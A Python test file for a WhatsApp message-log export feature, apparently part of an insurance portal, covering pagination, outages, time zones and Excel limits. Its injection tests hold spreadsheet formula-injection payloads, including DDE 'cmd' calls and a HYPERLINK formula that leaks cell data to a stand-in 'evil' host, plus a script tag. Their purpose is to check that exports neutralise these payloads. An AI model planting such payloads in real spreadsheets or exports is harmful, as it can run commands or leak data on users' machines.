"""The list as a file: every row of it once, in pieces, inert, in the reader's zone, and never whole when it is not."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Callable, Iterator
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from importlib import resources
from pathlib import Path
from zoneinfo import ZoneInfo

import psycopg
import pytest

from tests.spreadsheet import read_csv, read_xlsx
from tests.start.processes import PATIENCE_S
from whatsapp_logs import Config, Draft, MediaFile, MessageFilter, Source, Status, StatusReport, WhatsAppService, phone
from whatsapp_logs.access_log import AccessFilter
from whatsapp_logs.errors import Busy, DatabaseAway, InvalidInput
from whatsapp_logs.export import MAX_SHEET_ROWS, Reader, can_write_xlsx
from whatsapp_logs.message import Inbound
from whatsapp_logs.store import migrate

LONDON = ZoneInfo("Europe/London")
READER = Reader(name="somebody", zone=ZoneInfo("UTC"))
HARMFUL = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '=HYPERLINK("http://evil.example.test?x="&A1,"click")',
    "thanks;=cmd|' /C calc'!A0;",
    "thanks; \t@SUM(1)",
    "first line\n-1+2\r\n+3",
    "'=1+1",
    '"=1+1',
    "\x1b]0;title\x07 and \x08\x7f",
    "<script>alert(1)</script>",
    "\\.",
    ', "quoted"\r\nand more',
)
_DANGEROUS = re.compile(r"^[ ]*[=+@＝＋－＠-]|^[\t\r\n]|[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")


@pytest.fixture
def many(service: WhatsAppService) -> int:
    """Messages enough for more than one piece; several of one moment."""
    count = 20_000
    with service.transaction() as conn:
        conn.execute(
            """
            INSERT INTO whatsapp_logs.messages (recipient, body, failed_at, status, created_at)
            SELECT '+447700900' || lpad(mod(n, 1000)::text, 3, '0'), 'Message ' || n,
                   CASE mod(n, 3) WHEN 2 THEN timestamptz '2026-11-01Z' END,
                   (ARRAY['read', 'sent', 'failed'])[1 + mod(n, 3)]::whatsapp_logs.status,
                   timestamptz '2026-01-01 00:00Z' + n / 3 * interval '1 minute'
            FROM generate_series(1, %s) AS n
            """,
            (count,),
        )
    return count


def export(
    service: WhatsAppService, wanted: MessageFilter | None = None, *, reader: Reader = READER, form: str = "csv"
) -> Iterator[bytes]:
    return service.export(wanted or MessageFilter(zone=reader.zone), reader, form=form)


# --- all rows, once ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("wanted", "condition"),
    [
        (MessageFilter(), "true"),
        (MessageFilter(statuses=(Status.FAILED, Status.SENT)), "status IN ('failed', 'sent')"),
        (MessageFilter(statuses=(Status.READ,)), "status = 'read'"),
        (MessageFilter(phone="7700900"), "true"),
        (MessageFilter(phone="90000"), "recipient LIKE '%90000%'"),
    ],
    ids=["all", "rare statuses", "a common status", "very many numbers", "some numbers"],
)
def test_twenty_thousand_messages_come_in_blocks_each_once_newest_first(service, many, wanted, condition):
    blocks = list(export(service, wanted))
    rows = read_csv(blocks)
    query = f"SELECT id FROM whatsapp_logs.messages WHERE {condition} ORDER BY created_at DESC, id DESC"
    with service.transaction() as conn:
        ids = [str(one) for (one,) in conn.execute(query.encode()).fetchall()]
    assert [row["Log id"] for row in rows] == ids
    assert len(blocks) > len(ids) // 10_000
    assert max(map(len, blocks)) < 8_000_000


def test_what_changes_meanwhile_is_told_neither_twice_nor_left_out(service, many):
    blocks = export(service)
    begun = [next(blocks)]
    service.send(Draft(to="+447700900123", body="While the file is made"))
    with service.transaction() as conn:
        conn.execute("UPDATE whatsapp_logs.messages SET status = 'read' WHERE status = 'sent'")
    rows = read_csv([*begun, *blocks])
    assert len(rows) == len({row["Log id"] for row in rows}) == many


def test_a_slow_reader_keeps_no_connection_from_others(config: Config, service: WhatsAppService, many: int):
    small = WhatsAppService(replace(config, pool_size=1, pool_timeout_s=0.5))
    blocks = export(small)
    next(blocks)
    assert small.count(MessageFilter()) == many
    blocks.close()
    small.close()


def test_an_empty_list_is_a_header(service):
    assert read_csv(export(service)) == []
    assert b"Time (UTC),Recipient,Type,Status" in b"".join(export(service))
    assert [set(row.values()) for row in read_xlsx(export(service, form="xlsx"))] in ([], [{None}])


def test_only_two_files_are_made_at_a_time_and_one_that_is_left_makes_room(service, many):
    first, second, third = export(service), export(service), export(service)
    next(first)
    next(second)
    with pytest.raises(Busy, match="Try again in a moment"):
        next(third)
    first.close()
    fourth = export(service)
    next(fourth)
    for blocks in (second, fourth):
        blocks.close()


# --- outages ----------------------------------------------------------------------------------------------------------


def test_an_outage_before_the_first_block_is_an_error_and_no_file(config: Config):
    away = WhatsAppService(replace(config, database_url="postgresql://nobody@127.0.0.1:1/none", pool_timeout_s=0.3))
    for form in ("csv", "xlsx"):
        with pytest.raises(DatabaseAway):
            next(export(away, form=form))
    away.close()


def test_a_file_that_broke_off_says_so_in_its_last_line_and_the_error_is_raised(
    config: Config, dsn: str, postgres: str, many: int
):
    service = WhatsAppService(replace(config, pool_timeout_s=0.5))
    blocks = export(service)
    told = [next(blocks)]
    name = psycopg.conninfo.conninfo_to_dict(dsn)["dbname"]
    with psycopg.connect(postgres, autocommit=True) as admin:
        admin.execute(f"ALTER DATABASE {name} ALLOW_CONNECTIONS false")
        admin.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = %s", (name,))
        with pytest.raises(DatabaseAway):
            told.extend(blocks)
        with pytest.raises(DatabaseAway):  # an Excel file is whole or none
            next(export(service, form="xlsx"))
        admin.execute(f"ALTER DATABASE {name} ALLOW_CONNECTIONS true")
    rows = read_csv(told)
    assert rows[-1]["Time (UTC)"].startswith("NOT COMPLETE after 500 messages: export again.")
    assert all(row["Log id"] for row in rows[:-1])
    service.close()
    service = WhatsAppService(config)
    assert len(read_csv(export(service))) == many  # the next one is whole, and has none of it
    service.close()


# --- inert ------------------------------------------------------------------------------------------------------------


@pytest.fixture
def harmful(service: WhatsAppService) -> dict[int, str]:
    """Messages with something harmful in everything that others can write; their ids and what it is."""
    made = {}
    for n, text in enumerate(HARMFUL):
        pdf = MediaFile(content=b"%PDF-1.7", content_type="application/pdf", filename=f"{text}.pdf")
        message = service.send(
            Draft(to=f"+4477009001{n:02d}", body=text, media=pdf, message_type=text, created_by=text)
        )
        told = StatusReport(
            provider_status="failed",
            message_id=message.id,
            provider_id=f"{text}{n}",
            error_code=text,
            error_message=text,
        )
        service.record([told], source=Source.CALLBACK)
        made[message.id] = text
    return made


def test_fault_25_nothing_runs_in_a_spreadsheet_whatever_it_splits_at(service, harmful):
    reader = replace(READER, client_names=lambda ids: {}, policy_names=lambda ids: {})
    rows = read_csv(export(service, reader=reader))
    assert len(rows) == len(harmful)
    for row in rows:
        for title, cell in row.items():
            for part in re.split("[;\t\r\n]", cell):
                assert not _DANGEROUS.search(part), (title, cell)
            assert not _DANGEROUS.search(cell), (title, cell)
        text = harmful[int(row["Log id"])]
        shown = re.sub("[\u2400-\u2421]", "", row["Message"])
        assert shown.replace("'", "") == re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", text).replace("'", "")


def test_fault_25_in_an_excel_file_a_text_is_a_text_as_it_was_written(service, harmful):
    rows = read_xlsx(export(service, form="xlsx"))
    plain = {int(row["Log id"]): row for row in rows}  # type: ignore[call-overload]
    for message_id, text in harmful.items():
        if "\x1b" not in text and "\r" not in text:  # XML has no place for the one, and reads the other as a line feed
            assert plain[message_id]["Message"] == text
            assert plain[message_id]["Created by"] == text


def test_fault_25_innocent_texts_are_left_as_they_are(service):
    texts = ("Hello, here is your policy.", "2 + 2 = 4", "a-b@example.test", "It's “fine”; really", "Ω ≈ 😀", "1,234")
    for text in texts:
        service.send(Draft(to="+447700900123", body=text))
    assert [row["Message"] for row in read_csv(export(service))] == list(reversed(texts))


def test_fault_25_phone_numbers_survive_the_way_through_a_spreadsheet(service):
    numbers = ("+447700900123", "+15550100100", "+919876543210")
    for number in numbers:
        service.send(Draft(to=number, body="x"))
    cells = [row["Recipient"] for row in read_csv(export(service))]
    assert all(cell.startswith("'+") for cell in cells)  # to a spreadsheet a text, which it saves as it read it
    assert [phone.to_address(cell, region="US") for cell in cells] == list(reversed(numbers))
    assert [phone.search_digits(cell) for cell in cells] == [number[1:] for number in reversed(numbers)]
    assert [row["Recipient"] for row in read_xlsx(export(service, form="xlsx"))] == list(reversed(numbers))


# --- times and values -------------------------------------------------------------------------------------------------


def test_fault_28_times_are_the_readers_across_the_change_of_clocks_and_its_last_day_is_included(service):
    for hour, minute in ((23, 59), (0, 30), (1, 30)):  # UTC; London's clocks go back at 01:00
        day = 24 if hour == 23 else 25
        message = service.send(Draft(to="+447700900123", body=f"{hour}:{minute}"))
        with service.transaction() as conn:
            moment = datetime(2026, 10, day, hour, minute, 5, 123456, tzinfo=UTC)
            conn.execute("UPDATE whatsapp_logs.messages SET created_at = %s WHERE id = %s", (moment, message.id))
    reader = replace(READER, zone=LONDON)
    day = MessageFilter(date_from=date(2026, 10, 25), date_to=date(2026, 10, 25), zone=LONDON)
    rows = read_csv(export(service, day, reader=reader))
    assert [row["Time (Europe/London)"] for row in rows] == [
        "2026-10-25 01:30:05",
        "2026-10-25 01:30:05",
        "2026-10-25 00:59:05",
    ]
    assert [row["Exact time (UTC)"] for row in rows] == [
        "2026-10-25T01:30:05.123456Z",
        "2026-10-25T00:30:05.123456Z",
        "2026-10-24T23:59:05.123456Z",
    ]
    sheet = read_xlsx(export(service, day, reader=reader, form="xlsx"))
    assert sheet[2]["Time (Europe/London)"] == datetime(2026, 10, 25, 0, 59, 5)  # noqa: DTZ001 - a sheet knows no zones
    before = MessageFilter(date_to=date(2026, 10, 24), zone=LONDON)
    assert read_csv(export(service, before, reader=reader)) == []


def test_a_zone_that_the_server_does_not_know_is_told_as_utc(service):
    service.send(Draft(to="+447700900123", body="x"))
    with resources.files("tzdata.zoneinfo.Asia").joinpath("Kolkata").open("rb") as file:
        nowhere = ZoneInfo.from_file(file, key="Mars/Olympus")
    assert "Time (UTC)" in read_csv(export(service, reader=replace(READER, zone=nowhere)))[0]


def test_every_column_says_what_the_log_knows(service):
    pdf = MediaFile(content=b"%PDF-1.7", content_type="application/pdf", filename="policy.pdf")
    message = service.send(
        Draft(to="+447700900123", body="Two\nlines", media=pdf, message_type="policy_document", created_by="mia.agent")
    )
    at = datetime(2026, 7, 1, 10, 0, 0, tzinfo=UTC)
    sent = StatusReport(
        provider_status="delivered",
        message_id=message.id,
        provider_id="SM" + "1" * 32,
        happened_at=at,
        sent_at=at - timedelta(seconds=2),
        price=Decimal("-0.00750"),
        price_unit="USD",
        num_segments=2,
    )
    service.record([sent], source=Source.CALLBACK)
    row = read_csv(export(service))[0]
    (mark,) = [title for title in row if title.startswith("Exported ")]
    assert row.pop(mark) == ""
    created = service.message(message.id).created_at
    assert row == {
        "Time (UTC)": f"{created:%Y-%m-%d %H:%M:%S}",
        "Recipient": "'+447700900123",
        "Type": "Policy document",
        "Status": "Delivered",
        "Reason": "",
        "Message": "Two\nlines",
        "Document": "policy.pdf",
        "Sent (UTC)": "2026-07-01 09:59:58",
        "Delivered (UTC)": "2026-07-01 10:00:00",
        "Read (UTC)": "",
        "Failed (UTC)": "",
        "Client id": "",
        "Policy id": "",
        "Error code": "",
        "Price": "0.0075",
        "Currency": "USD",
        "Segments": "2",
        "Template": "",
        "Created by": "mia.agent",
        "Sent again as": "",
        "Message SID": "SM" + "1" * 32,
        "Log id": str(message.id),
        "Exact time (UTC)": f"{created:%Y-%m-%dT%H:%M:%S.%fZ}",
    }
    cells = read_xlsx(export(service, form="xlsx"))[0]
    assert (cells["Price"], cells["Segments"], cells["Log id"]) == (0.0075, 2.0, float(message.id))
    assert cells["Delivered (UTC)"] == at.replace(tzinfo=None)
    assert cells["Message SID"] == "SM" + "1" * 32


def test_a_text_that_no_cell_of_excels_holds_is_cut_there_and_says_so(service):
    service.receive(Inbound(provider_id="SM1", sender="+447700900123", recipient="+15550100100", body="x" * 40_000))
    inbound = MessageFilter(direction="inbound")
    assert len(read_csv(export(service, inbound))[0]["Message"]) == 40_000
    cell = str(read_xlsx(export(service, inbound, form="xlsx"))[0]["Message"])
    assert (len(cell), cell[-1]) == (32_767, "…")


# --- the portal's names -----------------------------------------------------------------------------------------------


def test_the_portals_names_stand_beside_its_ids_whatever_they_are(config: Config, new_database: Callable[..., str]):
    dsn = new_database(migrated=False)
    keys = {"C-1": 'Asha, "Ash" Rao', 'odd,"key"\n': "=cmd|' /C calc'!A0", "C-3": ""}
    with psycopg.connect(dsn) as conn:
        conn.execute("CREATE TABLE clients (client_id text PRIMARY KEY)")
        conn.execute("CREATE TABLE policies (policy_id bigint PRIMARY KEY); INSERT INTO policies VALUES (7), (8)")
        for key in keys:
            conn.execute("INSERT INTO clients VALUES (%s)", (key,))
    migrate.apply(dsn)
    service = WhatsAppService(replace(config, database_url=dsn))
    for key in keys:
        service.send(Draft(to="+447700900123", body="x", client_id=key, policy_id=7 if key == "C-1" else 8))
    service.send(Draft(to="+447700900123", body="x"))
    service.receive(Inbound(provider_id="SM1", sender="+447700900123", recipient="+15550100100", body="Thanks"))
    reader = replace(
        READER, client_names=lambda ids: {one: keys[one] for one in ids}, policy_names=lambda _: {"7": "POL-7"}
    )

    rows = read_csv(export(service, reader=reader))
    assert [(row["Client"], row["Policy"], row["Client id"]) for row in rows] == [
        ("", "", ""),
        ("", "8", "C-3"),
        ("'=cmd|' /C calc'!A0", "8", 'odd,"key"\n'),
        ('Asha, "Ash" Rao', "POL-7", "C-1"),
    ]
    assert [row["Recipient"] for row in rows] == ["'+447700900123"] * 4
    sheet = read_xlsx(export(service, reader=reader, form="xlsx"))
    assert [row["Client"] for row in sheet] == [None, None, keys['odd,"key"\n'], keys["C-1"]]
    answer = read_csv(export(service, MessageFilter(direction="inbound"), reader=reader))[0]  # known by its number
    assert (answer["Sender"], answer["Client id"]) == ("'+447700900123", "C-3")
    service.close()


# --- Excel's limits ---------------------------------------------------------------------------------------------------


def test_a_list_that_no_sheet_holds_is_refused_before_it_is_read(service):
    with service.transaction() as conn:
        conn.execute(
            "INSERT INTO whatsapp_logs.count_totals VALUES ('outbound', 'whatsapp', 'general', 'read', %s)",
            (MAX_SHEET_ROWS + 1,),
        )
    with pytest.raises(InvalidInput, match="take CSV"):
        next(export(service, form="xlsx"))


def test_without_the_writer_of_excel_files_it_says_so(service, monkeypatch):
    monkeypatch.setitem(sys.modules, "rustpy_xlsxwriter", None)
    can_write_xlsx.cache_clear()
    with pytest.raises(InvalidInput, match="Take CSV"):
        next(export(service, form="xlsx"))
    can_write_xlsx.cache_clear()


# --- the log of exports, and the command line -------------------------------------------------------------------------


def test_each_export_is_one_line_in_the_log_without_what_was_searched_for(service, many, caplog):
    caplog.set_level("INFO", "whatsapp_logs.export")
    list(export(service, MessageFilter(phone="7700900001", statuses=(Status.READ,))))
    left = export(service)
    next(left)
    left.close()
    whole, broken = [record.getMessage() for record in caplog.records]
    assert re.fullmatch(
        r"export csv by somebody: whole, \d+ messages in [\d.]+ s, filter: statuses, phone, numbers shown, texts shown",
        whole,
    )
    assert "left by the reader, 500 messages" in broken
    assert "7700900" not in caplog.text


def test_the_command_writes_a_file(config: Config, service: WhatsAppService, tmp_path: Path):
    message = service.send(Draft(to="+447700900123", body="x"))
    with service.transaction() as conn:
        conn.execute("UPDATE whatsapp_logs.messages SET created_at = '2026-10-25 23:30Z' WHERE id = %s", (message.id,))
    env = {
        "DATABASE_URL": config.database_url,
        "SECRET_KEY": config.secret_key,
        "DISPLAY_TIMEZONE": "Europe/London",
        "PYTHONPATH": str(Path(__file__).parents[1]),
    }

    def run(*words: str) -> subprocess.CompletedProcess[bytes]:
        command = [sys.executable, "-m", "whatsapp_logs", "export", *words]
        return subprocess.run(command, env=env, cwd=tmp_path, capture_output=True, timeout=PATIENCE_S, check=False)

    ran = run("--since", "2026-10-25", "--until", "2026-10-25")
    assert ran.returncode == 0
    assert [row["Time (Europe/London)"] for row in read_csv([ran.stdout])] == ["2026-10-25 23:30:00"]
    assert read_csv([run("--status", "read").stdout]) == []
    assert len(read_xlsx([run("--format", "xlsx").stdout])) == 1
    assert [look.person for look in service.accesses(AccessFilter())] == [f"{os.geteuid()} (command line)"] * 3
    refused = run("--since", "yesterday")
    assert (refused.returncode, refused.stdout) == (1, b"")
    assert "is not a day" in refused.stderr.decode()
